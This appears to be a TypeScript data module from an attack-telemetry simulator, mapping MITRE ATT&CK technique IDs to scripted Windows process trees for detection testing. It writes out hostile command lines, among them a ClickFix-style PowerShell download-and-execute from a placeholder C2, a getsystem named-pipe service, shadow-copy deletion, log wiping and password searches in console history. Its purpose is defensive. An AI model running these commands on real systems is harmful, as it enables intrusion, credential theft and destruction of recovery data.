import { v } from "../dsl";
import type { Variant } from "../types";

/** Meterpreter-style getsystem: a service whose command line writes to a named pipe the implant listens on
 * (used for token theft, hence under T1134 and its sub-techniques). */
const getsystemPipe = v(
  "getsystem-pipe",
  [
    {
      cmd: "{{tmp}}\\{{name}}.exe",
      as: "b",
      then: [
        {
          id: "gs",
          kind: "service.install",
          proc: "@services",
          name: "{{rand}}",
          imagePath: "%COMSPEC% /c echo {{rand}} > \\\\.\\pipe\\{{rand}}",
        },
      ],
    },
    {
      cmd: "C:\\Windows\\system32\\cmd.exe /c echo {{rand}} > \\\\.\\pipe\\{{rand}}",
      parent: "@services",
      user: "@system",
    },
  ],
  { elevated: true, shell: "none" },
);

/** Extra named-tool variants (see ../extras.ts). */
export const extrasC: Readonly<Record<string, readonly Variant[]>> = {
  "T1070.004": [
    v(
      "iis-log-wipe",
      [
        {
          cmd: "cmd.exe /c del /f /q C:\\inetpub\\logs\\LogFiles\\W3SVC1\\*.log",
          host: "@server",
          parent: "@wmiprvse",
          user: "@admin",
          deletes: ["C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex{{n}}.log"],
        },
      ],
      { shell: "none" },
    ),
  ],
  T1134: [
    getsystemPipe,
    v("runas-netonly-type9", [
      {
        cmd: 'runas /netonly /user:{{domain}}\\{{admin}} "cmd.exe /c dir \\\\{{srv}}\\C$"',
        then: [
          {
            id: "l",
            kind: "logon",
            session: "no",
            user: "@admin",
            logonType: 9,
            authPackage: "Negotiate",
          },
          { id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" },
        ],
      },
      // Secondary Logon starts it with the caller's token and the admin's network credentials.
      { cmd: "cmd.exe /c dir \\\\{{srv}}\\C$", parent: "@svchost:netsvcs" },
    ]),
  ],
  "T1134.001": [getsystemPipe],
  "T1134.002": [getsystemPipe],
  T1550: [
    v("runas-netonly-type9", [
      {
        cmd: 'runas /netonly /user:{{domain}}\\{{admin}} "powershell.exe"',
        then: [
          {
            id: "l",
            kind: "logon",
            session: "no",
            user: "@admin",
            logonType: 9,
            authPackage: "Negotiate",
          },
          { id: "e", kind: "credentials.explicit", targetUser: "@admin", targetServer: "localhost" },
        ],
      },
      // Secondary Logon starts it with the caller's token and the admin's network credentials.
      { cmd: "powershell.exe", parent: "@svchost:netsvcs", keep: true },
    ]),
  ],
  T1135: [
    v(
      "advanced-ip-scanner",
      [
        {
          cmd: '"{{tmp}}\\Advanced IP Scanner 2\\advanced_ip_scanner.exe" /portable "{{tmp}}\\ais" /lng en_us',
          image: "{{tmp}}\\Advanced IP Scanner 2\\advanced_ip_scanner.exe",
          net: [
            ["@server", 445],
            ["@dc", 445],
          ],
        },
      ],
      { shell: "none" },
    ),
    // SharpView, the .NET port of PowerView, run from a beacon's working folder.
    v("sharpview-sharefinder", [
      {
        cmd: "{{tools}}\\SharpView.exe Invoke-ShareFinder -CheckShareAccess",
        net: [
          ["@server", 445],
          ["@dc", 445],
          ["@workstation2", 445],
        ],
      },
    ]),
  ],
  T1140: [
    v("frombase64-oneliner", [
      "powershell.exe -nop -c \"[IO.File]::WriteAllBytes('C:\\Users\\Public\\{{rand}}.dll', [Convert]::FromBase64String((Get-Content C:\\Users\\Public\\{{rand}}.txt)))\"",
    ]),
  ],
  "T1195.002": [
    v(
      "gup-child",
      [
        { cmd: '"C:\\Program Files\\Notepad++\\updater\\GUP.exe" -options', as: "gup", parent: "@explorer" },
        { cmd: "cmd.exe /c {{tmp}}\\update.exe", parent: "gup", as: "c" },
        { cmd: "{{tmp}}\\update.exe", parent: "c" },
      ],
      { shell: "none" },
    ),
  ],
  T1202: [
    v("conhost-headless-child", [
      { cmd: "conhost.exe --headless cmd.exe /c {{tmp}}\\{{rand}}.bat", as: "ch" },
      { cmd: "cmd.exe /c {{tmp}}\\{{rand}}.bat", parent: "ch" },
    ]),
  ],
  "T1204.002": [
    v(
      "word-drops-exe",
      [
        {
          cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "{{downloads}}\\Invoice_{{n}}.doc"',
          as: "w",
          parent: "@explorer",
          files: ["{{appdata}}\\{{rand}}.exe"],
        },
        { cmd: "{{appdata}}\\{{rand}}.exe", parent: "w", net: [["{{c2}}", 443]] },
      ],
      { shell: "none" },
    ),
  ],
  "T1204.004": [
    v(
      "clickfix-runmru",
      [
        {
          by: "@explorer",
          reg: [
            [
              "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU",
              "a",
              'powershell -w h -nop -c "iex(iwr -UseBasicParsing https://{{c2}}/v)"                                                            # I am not a robot - reCAPTCHA Verification ID: {{n}}\\1',
            ],
          ],
        },
        {
          cmd: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w h -nop -c "iex(iwr -UseBasicParsing https://{{c2}}/v)"                                                            # I am not a robot - reCAPTCHA Verification ID: {{n}}',
          parent: "@explorer",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ],
  T1217: [
    v(
      "bookmarks-gci",
      [
        {
          ps: "Get-ChildItem -Path C:\\Users\\ -Filter Bookmarks -Recurse -ErrorAction SilentlyContinue -Force",
        },
      ],
      { shell: "ps" },
    ),
    // Internet Explorer / Edge favourites listed through cmd (Atomic T1217 #7).
    v("dir-favorites", ["cmd.exe /c dir /s /b %USERPROFILE%\\Favorites"], { shell: "ps" }),
  ],
  "T1218.009": [
    v("regasm-dat", [
      "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\RegAsm.exe C:\\Users\\Public\\{{rand}}.dat",
    ]),
  ],
  "T1218.014": [
    v(
      "grimresource-msc",
      [
        {
          cmd: '"C:\\Windows\\system32\\mmc.exe" "{{downloads}}\\{{rand}}.msc"',
          parent: "@explorer",
          loads: ["C:\\Windows\\System32\\jscript9.dll", "C:\\Windows\\System32\\vbscript.dll"],
        },
      ],
      { shell: "none" },
    ),
  ],
  "T1219.002": [
    v(
      "anydesk-portable",
      [
        {
          cmd: "{{downloads}}\\AnyDesk.exe",
          parent: "@explorer",
          files: ["{{appdata}}\\AnyDesk\\user.conf", "{{appdata}}\\AnyDesk\\system.conf"],
          net: [["relay-{{rand}}.net.anydesk.com", 443]],
        },
      ],
      { shell: "none" },
    ),
  ],
  T1222: [
    v(
      "set-acl-windows",
      [
        {
          ps: "$a = Get-Acl C:\\Windows\\System32\\{{rand}}.dll; $a.SetAccessRule((New-Object System.Security.AccessControl.FileSystemAccessRule('Everyone','FullControl','Allow'))); Set-Acl -Path C:\\Windows\\System32\\{{rand}}.dll -AclObject $a",
        },
      ],
      { shell: "ps", elevated: true },
    ),
  ],
  T1489: [
    v(
      "stop-service-ps",
      ['powershell.exe -c "Stop-Service -Name MSSQLSERVER,SQLWriter,VeeamDeploySvc -Force"'],
      { elevated: true },
    ),
  ],
  T1490: [
    v(
      "wmi-shadowcopy-ps",
      ['powershell.exe -c "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}"'],
      { elevated: true },
    ),
  ],
  "T1505.004": [
    v(
      "w3wp-appcmd",
      [
        {
          cmd: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm{{rand}} -h "C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config" -w "" -m 0',
          as: "w3",
          host: "@server",
          parent: "@svchost:netsvcs",
          user: "@system",
          keep: true,
        },
        {
          cmd: "cmd.exe /c C:\\Windows\\System32\\inetsrv\\appcmd.exe add module /name:{{name}} /type:{{name}}.Module,{{name}}",
          parent: "w3",
          host: "@server",
          as: "c",
        },
        {
          cmd: "C:\\Windows\\System32\\inetsrv\\appcmd.exe  add module /name:{{name}} /type:{{name}}.Module,{{name}}",
          parent: "c",
          host: "@server",
          files: ["C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config"],
        },
      ],
      { shell: "none" },
    ),
  ],
  T1518: [
    v("ie-version", ['reg query "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Internet Explorer" /v svcVersion']),
  ],
  "T1518.001": [
    v(
      "sysmon-altitude",
      [
        { cmd: "cmd.exe /c fltmc | findstr 385201", as: "c" },
        { cmd: "fltmc", parent: "c" },
        { cmd: "findstr  385201", parent: "c" },
      ],
      { elevated: true },
    ),
  ],
  "T1542.001": [
    v("wpbbin", [{ cmd: "C:\\Windows\\System32\\wpbbin.exe", parent: "@svchost:netsvcs", user: "@system" }], {
      shell: "none",
    }),
  ],
  "T1546.015": [
    v("treatas", [
      {
        cmd: 'reg add "HKCU\\Software\\Classes\\CLSID\\{0E5AAE11-A475-4C5B-AB00-C66DE400274E}\\TreatAs" /ve /t REG_SZ /d "{{{rand2}}-1234-4321-abcd-{{rand2}}{{rand}}}" /f',
        reg: [
          [
            "HKCU\\Software\\Classes\\CLSID\\{0E5AAE11-A475-4C5B-AB00-C66DE400274E}\\TreatAs",
            "(Default)",
            "{{{rand2}}-1234-4321-abcd-{{rand2}}{{rand}}}",
          ],
        ],
      },
    ]),
  ],
  "T1552.001": [
    v("console-history", [
      {
        cmd: "cmd.exe /c type %APPDATA%\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt | findstr /i pass",
        as: "c",
      },
      // cmd runs each side of a pipe in its own /S /D /c child.
      {
        cmd: 'C:\\Windows\\system32\\cmd.exe  /S /D /c" type {{appdata}}\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt "',
        parent: "c",
        reads: ["{{appdata}}\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt"],
      },
      { cmd: 'C:\\Windows\\system32\\cmd.exe  /S /D /c" findstr /i pass"', parent: "c", as: "right" },
      { cmd: "findstr  /i pass", parent: "right" },
    ]),
  ],
};
